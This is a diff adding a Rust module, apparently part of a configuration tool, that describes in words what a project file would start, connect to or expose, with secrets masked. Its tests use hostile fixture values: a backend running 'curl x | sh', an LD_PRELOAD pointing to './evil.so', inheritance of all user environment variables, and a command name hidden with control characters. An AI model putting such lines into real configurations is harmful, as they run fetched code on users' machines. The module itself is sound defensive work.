@@ -1,0 +1,142 @@
+//! What a project file would start, open or move, in words: full commands, nothing left out.
+//!
+//! Variables stand as they are written, unexpanded; of what looks like a secret only the name is shown.
+
+use crate::config::mask::mask;
+use crate::config::trust::withhold;
+use crate::config::{Node, Value};
+
+/// Says what a file would do, line by line.
+pub(super) fn of(tree: &Node) -> Vec<String> {
+    let mut lines = Vec::new();
+    for key in withhold(&mut tree.clone()) {
+        let Some(node) = key.split('.').try_fold(tree, |node, part| node.get(part)) else { continue };
+        match key.as_str() {
+            "backends" => backends(node, &mut lines),
+            "serve.http" => lines.push(format!("listen on {}", value(&key, node))),
+            _ => lines.push(format!("set {key} to {}", value(&key, node))),
+        }
+    }
+    lines
+}
+
+fn backends(node: &Node, lines: &mut Vec<String>) {
+    let Value::List(items) = &node.value else { return };
+    if items.is_empty() {
+        lines.push("have no backends".to_owned());
+    }
+    for item in items {
+        let id = item.get("id").map(|id| value("id", id)).unwrap_or_default();
+        if let Some(url) = item.get("url") {
+            lines.push(format!("connect to {} as {id}", value("url", url)));
+            named(item.get("headers"), "  with the header", lines);
+            continue;
+        }
+        let args = item.get("args").map(list).unwrap_or_default();
+        let command = item.get("command").map(written).unwrap_or_default();
+        let command: Vec<String> = std::iter::once(command).chain(args).map(|word| quoted(&word)).collect();
+        lines.push(format!("start {} as {id}", command.join(" ")));
+        named(item.get("env"), "  with the variable", lines);
+        if let Some(inherit) = item.get("inheritEnv") {
+            match &inherit.value {
+                Value::List(_) => {
+                    lines.push(format!("  with your variables {}", list(inherit).join(", ")));
+                }
+                _ if written(inherit).eq_ignore_ascii_case("true") => {
+                    lines.push("  with all of your variables".to_owned());
+                }
+                _ => {}
+            }
+        }
+    }
+}
+
+fn named(node: Option<&Node>, what: &str, lines: &mut Vec<String>) {
+    let Some(Value::Map(entries)) = node.map(|node| &node.value) else { return };
+    for (name, node) in entries {
+        lines.push(format!("{what} {name} = {}", value(name, node)));
+    }
+}
+
+/// Returns a value as it is written, a secret masked; a mere reference to a variable is none.
+fn value(name: &str, node: &Node) -> String {
+    let text = match &node.value {
+        Value::List(_) => list(node).join(", "),
+        _ => written(node),
+    };
+    let reference = text.strip_prefix("${").and_then(|rest| rest.strip_suffix('}'));
+    if reference.is_some_and(|name| name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')) {
+        return text;
+    }
+    quoted(&mask(name, &text).shown)
+}
+
+fn list(node: &Node) -> Vec<String> {
+    let Value::List(items) = &node.value else { return Vec::new() };
+    items.iter().map(written).collect()
+}
+
+fn written(node: &Node) -> String {
+    match &node.value {
+        Value::Scalar(scalar) => scalar.text.clone(),
+        _ => String::new(),
+    }
+}
+
+/// Quotes a word of which one could not tell where it ends.
+fn quoted(word: &str) -> String {
+    let plain = |c: char| c.is_alphanumeric() || "-_./:@=,+%*${}[]?&".contains(c);
+    if !word.is_empty() && word.chars().all(plain) { word.to_owned() } else { format!("{word:?}") }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::path::Path;
+
+    use super::*;
+    use crate::config::project;
+
+    fn effects(text: &str) -> Vec<String> {
+        of(&project::parse(text.as_bytes(), Path::new("scrubjay.yaml"), &mut Vec::new()).unwrap())
+    }
+
+    #[test]
+    fn everything_that_starts_opens_or_moves_is_shown() {
+        let shown = effects(
+            "log_level: debug\ndata: ./here\nbackends:\n\
+             \x20 - { id: sh, type: stdio, command: sh, args: [-c, 'curl x | sh', ''], inheritEnv: true,\n\
+             \x20     env: { API_KEY: abcdef, TOKEN: '${GITHUB_TOKEN}', PORT: 80, LD_PRELOAD: ./evil.so } }\n\
+             \x20 - { id: far, type: http, url: 'https://far.example/mcp', headers: { Authorization: Bearer x } }\n\
+             \x20 - { id: named, type: stdio, command: x, inheritEnv: [A, B] }\n\
+             serve: { http: '0.0.0.0:80', auth_token: abc, allowed_hosts: [a.example], naming: always }\n",
+        );
+        let expected = [
+            "set data to ./here",
+            "listen on 0.0.0.0:80",
+            "set serve.auth_token to ***",
+            "set serve.allowed_hosts to a.example",
+            "start sh -c \"curl x | sh\" \"\" as sh",
+            "  with the variable API_KEY = ***",
+            "  with the variable TOKEN = ${GITHUB_TOKEN}",
+            "  with the variable PORT = 80",
+            "  with the variable LD_PRELOAD = ./evil.so",
+            "  with all of your variables",
+            "connect to https://far.example/mcp as far",
+            "  with the header Authorization = ***",
+            "start x as named",
+            "  with your variables A, B",
+        ];
+        assert_eq!(shown, expected);
+    }
+
+    #[test]
+    fn a_harmless_file_does_nothing() {
+        assert!(effects("log_level: debug\nserve: { naming: always }\n").is_empty());
+    }
+
+    #[test]
+    fn what_hides_is_seen() {
+        let shown = effects("backends: [{ id: a, type: stdio, command: \"sh\\u202e\\e[8m\" }]");
+        assert_eq!(shown, ["start \"sh\\u{202e}\\u{1b}[8m\" as a"]);
+    }
+}
